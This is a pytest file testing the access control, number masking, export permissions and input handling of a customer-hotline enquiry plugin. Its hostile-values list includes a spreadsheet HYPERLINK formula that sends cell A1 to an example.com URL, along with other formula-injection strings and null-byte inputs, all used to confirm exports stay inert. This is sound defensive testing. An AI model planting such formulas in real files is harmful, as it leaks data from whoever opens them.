"""An enquiry of others does not exist; numbers stay masked; hostile cells and dates do nothing."""

from __future__ import annotations

import io
import zipfile

import pytest
import python_calamine

from app.sdk.abilities import call
from app.sdk.errors import CarelineError
from app.sdk.models import CustomerEvent
from app.sdk.services import SYSTEM, create, utcnow
from plugins.enquiries.tests.helpers import customer, desk, taken

SECRET = "别人的问题"
FORMULA = '=HYPERLINK("https://example.com/?x="&A1,"click")'
HOSTILE = (FORMULA, "+1+1", "-1+1", "@SUM(A1)", "\t=1+1")


@pytest.fixture
def foreign(house):
    """An enquiry of the second hotline team."""
    return taken(house, "liuyang", question=f"{SECRET}是什么", customer_name="李雷",
                 phone="13812345678", wechat="lilei2026")


def test_every_way_to_a_foreign_enquiry_is_a_404(house, foreign):
    client, key = house.client("agent"), foreign.id
    for address in (
        f"/enquiries/show/{key}", f"/enquiries/edit/{key}", f"/enquiries/act/{key}/answer",
        f"/enquiries/act/{key}/make_repair", f"/enquiries/flow/{key}", f"/enquiries/peek/{key}",
        f"/api/v1/enquiries/{key}",
    ):
        assert client.get(address).status_code == 404, address
        assert house.client("liuyang").get(address).status_code == 200, address


def test_no_list_card_file_or_side_panel_tells_of_a_foreign_enquiry(house, foreign):
    known = customer(house, phone="13812345678")
    for address in (
        "/", "/enquiries/list/", "/enquiries/list/?mode=board", f"/enquiries/list/?q={SECRET}",
        "/api/v1/enquiries/", "/enquiries/earlier?phone=13812345678",
        "/enquiries/add?phone=13812345678", f"/customers/show/{known.id}",
        f"/palette/?q={foreign.number}",
    ):
        answer = house.client("agent").get(address)
        assert answer.status_code == 200, address
        page = answer.text
        assert f"{SECRET}是" not in page, address
        assert f"/enquiries/show/{foreign.id}" not in page, address
    with pytest.raises(CarelineError):
        call(house.session, house.actor("agent"), "enquiries.report_repair",
             {"plate": "京A12345", "place": "x", "situation": "x"}, origin=foreign)


def test_numbers_are_masked_in_every_output(house, foreign):
    leader = house.client("supervisor")
    for address in (
        f"/enquiries/show/{foreign.id}", "/enquiries/list/",
        f"/api/v1/enquiries/{foreign.id}", "/api/v1/enquiries/", "/enquiries/export/csv?all=1",
        f"/enquiries/peek/{foreign.id}",
    ):
        answer = leader.get(address)
        assert answer.status_code == 200, address
        text = answer.text
        assert "13812345678" not in text and "lilei2026" not in text, address
    body = zipfile.ZipFile(io.BytesIO(leader.get("/enquiries/daily.xlsx").data))
    held = "".join(body.read(name).decode() for name in body.namelist())
    assert SECRET in held and "13812345678" not in held and "lilei2026" not in held


@pytest.mark.parametrize("text", HOSTILE)
def test_no_sheet_runs_what_a_caller_said(house, text):
    taken(house, "supervisor", question=text, customer_name=text, remarks=text)
    body = house.client("supervisor").get("/enquiries/daily.xlsx").data
    sheet = zipfile.ZipFile(io.BytesIO(body)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<hyperlink" not in sheet
    [_header, row] = python_calamine.CalamineWorkbook.from_filelike(
        io.BytesIO(body)).get_sheet_by_index(0).to_python()
    assert any(text.strip() in str(cell) for cell in row)


@pytest.mark.parametrize("address", [
    "/enquiries/daily.pdf?day=9999-12-31", "/enquiries/daily.xlsx?day=0001-01-01",
    "/enquiries/daily.pdf?day=%00", "/enquiries/daily.xlsx?day=2026-02-30",
    "/enquiries/monthly/?month=9999-12", "/enquiries/monthly/?month=0001-01",
    "/enquiries/monthly/base.xlsx?month=9999-12", "/enquiries/statistics/?period=x",
    "/enquiries/phrases?kind=%00", "/enquiries/phrases?kind=x", "/enquiries/earlier?phone=%00",
])
def test_no_address_breaks_a_page(house, address):
    assert house.client("supervisor").get(address).status_code in (200, 400)


def test_a_monthly_file_needs_the_right_to_export(house):
    create(house.session, SYSTEM, CustomerEvent, {
        "customer_id": customer(house).id, "kind": "delivered", "happened_at": utcnow()})
    assert house.client("supervisor").get("/enquiries/monthly/base.xlsx").status_code == 200
    assert house.client("agent").get("/enquiries/monthly/base.xlsx").status_code == 403
    manager = house.app.appbuilder.sm
    right = manager.find_permission_view_menu("can_export", "enquiries.Enquiry")
    manager.del_permission_role(manager.find_role("supervisor"), right)
    house.session.commit()
    assert house.client("supervisor").get("/enquiries/monthly/").status_code == 200
    assert house.client("supervisor").get("/enquiries/monthly/base.xlsx").status_code == 403


def test_what_changes_something_needs_its_token_and_a_post(house):
    client = house.client("supervisor")
    assert client.get("/enquiries/callers/give").status_code in (404, 405)
    assert client.post("/enquiries/callers/give").status_code in (400, 404, 405)
    assert client.post("/enquiries/add", data={"question": "x"}).status_code == 400


def test_a_message_for_a_colleague_is_not_read_by_others(house):
    desk(house, "agent", kind="message", question="请他回电谈交车",
         message_for_id=house.actor("linna").user_id, customer_name="李雷")
    address = "/enquiries/messages/list/"
    assert "请他回电谈交车" in house.client("linna").get(address).text
    for username in ("luoting", "liuyang"):
        assert "请他回电谈交车" not in house.client(username).get(address).text
